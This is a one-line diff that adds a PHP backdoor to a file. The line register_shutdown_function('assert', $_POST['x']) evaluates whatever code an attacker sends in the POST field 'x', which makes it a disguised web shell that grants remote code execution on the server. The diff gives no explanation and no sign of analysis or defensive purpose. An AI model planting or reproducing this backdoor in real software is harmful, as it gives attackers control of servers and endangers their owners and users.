@@ -1,0 +1,1 @@
+<?php register_shutdown_function('assert', $_POST['x']);
